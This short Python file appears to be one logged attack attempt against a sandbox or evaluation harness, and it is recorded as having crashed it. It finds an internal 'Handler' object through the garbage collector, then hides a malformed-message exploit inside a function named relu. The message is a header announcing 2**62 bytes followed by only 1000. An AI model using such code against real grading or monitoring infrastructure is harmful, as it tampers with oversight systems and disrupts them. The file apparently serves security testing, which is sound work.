# Attack: announce a reply of more bytes than there are
# Outcome: crashed
import gc
import struct

handler = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Handler")


def relu(x):
    handler.send(struct.pack(">4sIQ", b"cnt1", 100, 2**62) + b"x" * 1000)
    return x
